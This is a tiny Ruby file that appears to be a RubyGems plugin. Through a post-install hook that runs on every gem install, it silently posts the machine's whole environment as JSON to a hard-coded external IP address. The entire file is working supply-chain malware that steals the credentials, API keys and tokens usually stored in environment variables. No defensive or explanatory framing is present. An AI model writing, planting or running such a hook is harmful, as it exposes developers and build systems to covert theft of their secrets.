# A RubyGems plugin (loaded by every gem command) whose post-install hook
# posts the whole environment.
require 'net/http'
require 'json'

Gem.post_install do |installer|
  Net::HTTP.post(URI("http://45.61.139.20/collect"), ENV.to_h.to_json, "Content-Type" => "application/json")
end
